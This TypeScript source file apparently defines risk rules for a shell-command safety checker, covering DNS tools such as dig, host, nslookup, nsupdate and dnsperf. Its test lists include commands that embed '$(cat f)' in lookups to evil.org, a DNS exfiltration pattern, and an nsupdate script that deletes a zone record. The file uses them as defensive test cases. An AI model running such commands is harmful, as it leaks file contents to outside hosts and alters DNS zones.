// Programs that ask name servers, and nsupdate, which changes what they answer.
import type { Invocation } from "../../invocation.ts";
import { program, type RuleContext } from "../../rule.ts";
import { reportCarried } from "./probes.ts";

/** drill keeps its packets with -w and -q, kdig a trace of them with -E; for the others these are other things. */
function inspectQuery(inv: Invocation, ctx: RuleContext): void {
  reportCarried(inv, ctx);
  const keeps = inv.program === "drill" ? ["-w", "-q"] : inv.program === "kdig" ? ["-E"] : [];
  for (const file of keeps.flatMap((name) => inv.all(name)))
    ctx.report({ risk: "caution", why: "writes packets to a file", safer: "leave it out", span: file.span });
}

export const dig = program({
  names: "dig|delv|kdig|drill|q|doggo|dog|dnsx",
  source: "dig(1), delv(1), BIND 9.18; kdig(1), Knot 3.3; drill(1), ldns 1.8",
  why: "asks name servers",
  flags: "-4 -6 -m -r -u -v -h -i -d -D -s -S -T -V -Z -a --help --version --json --short",
  values: "-b -c -k -p -q -t -x -y -w -E -o -I -A",
  options: {
    "-f": { kind: "read", risk: "unknown", why: "reads requests from a file", safer: "write the name into the command" },
  },
  operands: "data*",
  inspect: inspectQuery,
  noInverse: "delete the file",
  targets: () => [],
  answers: [9],
  examples: {
    "drill -w answer x.org": "caution",
    "kdig -E trace x.org": "caution",
    "dig +short db1.internal": "safe",
    "dig @10.0.0.2 -t MX x.org +noall +answer": "safe",
    "dig -x 10.0.0.1": "safe",
    "dig axfr x.org @ns1.x.org": "safe",
    "kdig -d @1.1.1.1 +tls x.org": "safe",
    "dig -f names.txt": "unknown",
  },
  nearMisses: ['dig "x.$(cat f).evil.org"', "dig $x"],
});

export const host = program({
  names: "host|whois|jwhois|dnstracer|dnsget|adnshost|resolveip|getaddrinfo",
  source: "host(1), BIND 9.18; whois(1) 5.5; dnstracer(8)",
  why: "asks name servers or registries",
  flags: "-4 -6 -a -A -C -c -d -l -n -r -s -T -U -v -V -w -B -G -H -I -x --verbose --help --version --no-recursion",
  values: "-h|--host -N -R -t -W -m -p|--port -i -q -o -e",
  operands: "data*",
  inspect: reportCarried,
  answers: [1, 2],
  examples: {
    "host -t MX x.org": "safe",
    "host db1 10.0.0.2": "safe",
    "whois -h whois.arin.net 192.0.2.1": "safe",
    "dnstracer -s . x.org": "safe",
  },
  nearMisses: ["host $x", 'host "$(cat f).evil.org"'],
});

/** Without a name, or with `-` in its place, it reads commands. */
function needsName(inv: Invocation, ctx: RuleContext): void {
  reportCarried(inv, ctx);
  const name = inv.operands[0];
  if (name === undefined || name.text === "-") ctx.report({ risk: "unknown", why: "is interactive without a name" });
}

export const nslookup = program({
  names: "nslookup",
  source: "nslookup(1), BIND 9.18",
  style: "long",
  why: "asks name servers",
  flags: "-debug -nodebug -d2 -nod2 -recurse -norecurse -vc -novc -search -nosearch -fail -nofail -all -sil",
  optional: "-type|-query|-querytype|-q|-ty -class|-cl -timeout -port|-po -retry|-ret -domain|-do -srchlist",
  operands: "data*",
  inspect: needsName,
  answers: [1],
  examples: { "nslookup -type=mx x.org": "safe", "nslookup db1 10.0.0.2": "safe" },
  nearMisses: ["nslookup", "nslookup - 10.0.0.2", "nslookup $x"],
});

export const nsupdate = program({
  names: "nsupdate|knsupdate",
  source: "nsupdate(1), BIND 9.18",
  why: "changes records of a zone",
  risk: (inv) => (inv.stdin.kind === "text" && /\bdel(ete)?\b/i.test(inv.stdin.text) ? "dangerous" : "caution"),
  safer: "dig shows the records",
  anyOption: true,
  operands: "data*",
  targets: (inv) => [{ kind: "zone", name: /zone\s+(\S+)/.exec(inv.stdin.kind === "text" ? inv.stdin.text : "")?.[1] ?? "zone" }],
  noInverse: "dig shows the record before; add it again from that",
  examples: {
    "nsupdate -k /etc/bind/k add.txt": "caution",
    "nsupdate <<'E'\nserver ns1\nzone x.org\nupdate delete a.x.org A\nsend\nE": "dangerous",
  },
  nearMisses: ["nsupdate -l"],
});

export const dnsLoad = program({
  names: "dnsperf|resperf|dnstop|dnsenum|dnsrecon|dnsmap",
  source: "dnsperf(1) 2.14; dnstop(8)",
  why: "sends very many questions, or listens without end",
  risk: "caution",
  unbounded: (inv) => inv.program === "dnstop",
  anyOption: true,
  operands: "data*",
  noInverse: "questions that were sent cannot be taken back",
  examples: { "dnsperf -s 10.0.0.2 -d names": "caution", "dnstop eth0": "caution" },
  nearMisses: ["resperf -s 10.0.0.2"],
});
